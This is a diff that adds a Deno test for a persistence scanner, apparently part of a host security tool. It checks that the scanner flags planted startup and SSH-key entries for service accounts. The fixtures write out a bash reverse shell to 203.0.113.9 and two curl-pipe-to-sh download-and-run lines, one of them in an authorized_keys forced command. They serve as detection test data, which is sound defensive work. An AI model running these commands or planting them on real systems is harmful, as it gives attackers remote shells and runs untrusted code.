@@ -104,3 +104,33 @@ Deno.test("loadNssRecords: hostile record files never throw", async () => {
     assert.equal(r.problems.length, 1);
   }
 });
+
+Deno.test("persistence: the homes of record accounts are read like any account's", async () => {
+  const { persistence } = await import("../../src/scanners/persistence/index.ts");
+  const { fired } = await import("./persistence_fixtures.ts");
+  using root = makeTree({
+    ...CLEAN,
+    "etc/nsswitch.conf": NSSWITCH,
+    "etc/userdb/svc.user": JSON.stringify({
+      userName: "svc",
+      uid: 992,
+      homeDirectory: "/var/lib/svc",
+      shell: "/bin/bash",
+    }),
+    "var/lib/svc/.bashrc": "bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n",
+    "var/lib/svc/.ssh/authorized_keys": 'command="curl -s http://203.0.113.9/k | sh" ssh-ed25519 ' +
+      "AAAAC3NzaC1lZDI1NTE5AAAAIHq9jXc0Ah0fBsrHcpXKkOWbUl8+/0qz+6sP0FzQ7sEo svc\n",
+    "var/lib/extrausers/passwd": "snap:x:1500:1500::/home/snap:/bin/sh\n",
+    "home/snap/.profile": "curl -s http://203.0.113.9/p | sh\n",
+  });
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.equal(r.status, "ok", r.reason);
+  assert.deepEqual(fired(r.findings), [
+    "critical persistence.command.reverse_shell /var/lib/svc/.bashrc:1",
+    "high persistence.command.download_exec /home/snap/.profile:1",
+    "high persistence.command.download_exec /var/lib/svc/.ssh/authorized_keys:1",
+    "low persistence.ssh_key.forced_command /var/lib/svc/.ssh/authorized_keys:1",
+  ]);
+  const bashrc = r.findings.find((f) => f.metadata.path === "/var/lib/svc/.bashrc")!;
+  assert.equal(bashrc.metadata.run_as, "svc");
+});
